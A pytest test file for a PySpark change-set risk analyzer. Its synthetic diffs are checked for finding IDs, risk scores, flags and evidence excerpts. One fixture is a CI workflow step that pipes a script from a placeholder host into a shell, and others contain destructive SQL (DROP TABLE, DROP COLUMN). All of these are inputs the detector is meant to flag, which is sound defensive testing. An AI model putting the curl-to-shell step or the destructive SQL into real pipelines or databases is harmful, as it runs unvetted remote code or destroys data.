"""Findings of each type from small change sets, with ids worked out here, and what scores and flags make of them."""

import hashlib

import pytest

from diffloom.functions.code_reader import source_changes
from diffloom.operators import analyzers as A
from diffloom.operators import evidence as E
from diffloom.operators import scoring as S
from pyspark.sql import functions as F

FILES = "changeset_id string, ord int, path string, status string, old_path string, risk string"
HUNKS = "hunk_id long, changeset_id string, path string, hunk_ord int, old_start int, old_lines int, new_start int, new_lines int, content string, additions array<string>, deletions array<string>, kind string"


def change_set(spark, files):
    """path -> (status, added lines, deleted lines); every hunk is delivered twice."""
    listed = [("c", i, p, s, None, "clash") for i, (p, (s, *_)) in enumerate(files.items())]
    hunks = [(i, "c", p, 0, 1, 1, 7, 1, None, add, rem, "clash") for i, (p, (_, add, rem)) in enumerate(files.items()) if add is not None or rem is not None]
    return A.changes_of(spark.createDataFrame(listed * 2, FILES), spark.createDataFrame(hunks * 2, HUNKS))


def found(spark, files):
    changes = change_set(spark, files).keep()
    return S.findings(changes.files, changes, source_changes(A.source_sides(changes)))


def ident(type_, fingerprint):
    return f"finding.{type_}#{hashlib.sha256(fingerprint.encode()).hexdigest()[:12]}"


FILES_OF = {
    "supabase/migrations/1_x.sql": ("added", ["DROP TABLE a;", None, "ALTER TABLE b DROP COLUMN c;"], []),
    ".github/workflows/ci.yml": ("modified", ["on: pull_request_target", "  run: curl https://x.example/i.sh | sh"], None),
    "package.json": ("modified", ['  "devDependencies": {', '    "vite": "^6.0.0",', '    "stripe": "^14.1.0"', "  }"], ['  "devDependencies": {', '    "vite": "^5.0.0"', "  }"]),
    "src/auth/login.ts": ("modified", ["const k = process.env.API_URL;", "import { a } from '../lib/util';"], []),
    "src/lib/util.ts": ("modified", ["export const a = 1;"], ["export const a = 0;"]),
    "app/shop/page.tsx": ("added", ["'use client'"], None),
    "openapi/v1.yaml": ("modified", None, None),
    "Dockerfile": ("modified", ["FROM node:22"], ["FROM node:20", "EXPOSE 80"]),
    "pyproject.toml": ("modified", ["[build-system]"], []),
    "vite.config.ts": ("modified", ["import pwa from 'vite-plugin-pwa'", "  outDir: 'x',"], []),
    "src/my-card.tsx": ("modified", ["@Component({ tag: 'my-card' })", "export class MyCard { @Prop() title: string; }"], ["@Component({ tag: 'my-card' })", "export class MyCard { @Prop() title: string; @Event() shut: EventEmitter<void>; }"]),
}
WANT = {
    "sql-risk": "sql-risk:supabase/migrations/1_x.sql:destructive", "db-migration": "db-migration:supabase:supabase/migrations/1_x.sql", "api-contract-change": "api-contract-change:openapi/v1.yaml", "lockfile-mismatch": "lockfile-mismatch:true:false",
    "env-var": "env-var:API_URL:src/auth/login.ts", "security-file": "security-file:src/auth/login.ts:auth-path", "impact-analysis": "impact-analysis:src/lib/util.ts:src/auth/login.ts", "infra-change": "infra-change:dockerfile:Dockerfile",
    "docker-change": "docker-change:Dockerfile:dockerfile:true:node:20,node:22", "python-config": "python-config:pyproject.toml:pyproject:true:build-system", "vite-config": "vite-config:vite.config.ts:true:build.outDir:PWA",
    "rsc-boundary": "rsc-boundary:app/shop/page.tsx:client:none:use client:false", "stencil-event-change": "stencil-event-change:my-card:shut:removed:src/my-card.tsx",
}


@pytest.fixture(scope="module")
def rows(spark):
    df = found(spark, FILES_OF)
    return df.persist()


def test_ids_of_every_type(rows):
    got = {}
    for r in rows.collect():
        got.setdefault(r.type, set()).add(r.finding_id)
        assert r.finding_id == ident(r.type, r.fingerprint)
    for type_, fingerprint in WANT.items():
        assert ident(type_, fingerprint) in got[type_], (type_, [r.fingerprint for r in rows.where(F.col("type") == type_).collect()])
    assert got["dependency-change"] == {ident("dependency-change", f) for f in ("dependency-change:vite:^5.0.0:^6.0.0:devDependencies", "dependency-change:stripe:null:^14.1.0:devDependencies")}
    assert got["ci-workflow"] == {ident("ci-workflow", f"ci-workflow:.github/workflows/ci.yml:{k}") for k in ("pull_request_target", "remote_script_download", "pipeline_changed")}
    assert ident("route-change", "route-change:/shop:added:page") in got["route-change"]
    flags = {r.name for r in rows.where("type = 'risk-flag'").collect()}
    assert flags == {"Security-sensitive files changed (Authentication): 1 file(s)", "Destructive SQL detected: DROP COLUMN, DROP TABLE", "Major version bump: vite ^5.0.0 → ^6.0.0", "New Payment Processing package: stripe"}


def test_scores_and_flags(spark, rows):
    files = change_set(spark, FILES_OF).files
    factors = {(r.kind, r.weight) for r in S.risk_factors(rows, files).collect()}
    assert {("risk-high", 40), ("risk-medium", 20), ("db-migration", 30), ("dependency-major", 15), ("dependency-new", 10), ("env-var-added", 5), ("security-file", 15), ("route-added", 5)} <= factors
    flags = {r.rule_key: r for r in S.risk_flags(rows).collect()}
    # A development dependency is no new production dependency.
    assert "deps.new_prod_dependency" not in flags and {"deps.major_version_bump", "stencil.event_removed", "db.destructive_sql", "api.contract_changed", "infra.dockerfile_changed"} <= set(flags)
    assert flags["stencil.event_removed"].effective_score == 38
    assert {(r.section, r.impact, r.names) for r in S.dependency_overview(rows).collect()} == {("devDependencies", "major", "vite"), ("devDependencies", "new", "stripe")}


def test_evidence_of_findings(spark, rows):
    changes = change_set(spark, FILES_OF).keep()
    got = {r.finding_id: r for r in E.finding_evidence(rows, changes).collect()}
    env = got[ident("env-var", WANT["env-var"])]
    assert (env.file, env.excerpt, env.line) == ("src/auth/login.ts", "const k = process.env.API_URL;", 7)
    assert got[ident("api-contract-change", WANT["api-contract-change"])].excerpt == ""


def test_order_caps_and_best_of_evidence(spark):
    e = "array<struct<file:string,excerpt:string,line:int>>"
    df = spark.createDataFrame([("env-var", [("b", "x", 2), ("A", "y", 9), ("a", "z", None), ("b", "w", 1)]), ("other", [("b", "x", 2)]), ("env-var", None)], f"t string, e {e}")
    got = df.select(E.sort_evidence("e").alias("s"), F.size(E.capped("e", "t")).alias("n")).collect()
    assert [x.excerpt for x in got[0].s] == ["z", "y", "w", "x"] and [r.n for r in got] == [3, 1, None]
    rows = spark.createDataFrame([("p", "k", "a", "depends on x"), ("p", "k", "b", "removed 3 high"), ("p", "k", "b", "plain"), ("p", "k", "c", None), ("p", "k", "d", "1"), ("p", "k", None, "9")], "facts_path string, category string, file string, excerpt string")
    assert [(r.place, r.file) for r in E.top_evidence(rows).orderBy("place").collect()] == [(1, "b"), (2, "d"), (3, "c")]


def test_empty_and_null_change_sets(spark):
    empty = change_set(spark, FILES_OF)
    none = A.changes_of(empty.hunks.limit(0).selectExpr("changeset_id", "hunk_ord as ord", "path", "kind as status", "kind as old_path"), empty.hunks.where("false")).keep()
    assert S.findings(none.files, none).count() == 0
    hunks = spark.createDataFrame([(1, "c", None, 0, None, None, None, None, None, ["x"], None, ""), (2, None, "a.ts", 0, None, None, None, None, None, None, None, ""), (3, "c", "a.ts", 0, None, None, None, None, None, [None], None, "")], HUNKS)
    files = spark.createDataFrame([("c", 0, None, "added", None, ""), (None, 1, "a.ts", None, None, "")], FILES)
    one = A.changes_of(files, hunks)
    assert [(r.path, r.additions, r.deletions) for r in one.counts().collect()] == [("a.ts", 0, 0)]
    assert S.findings(one.files, one.keep()).count() == 0
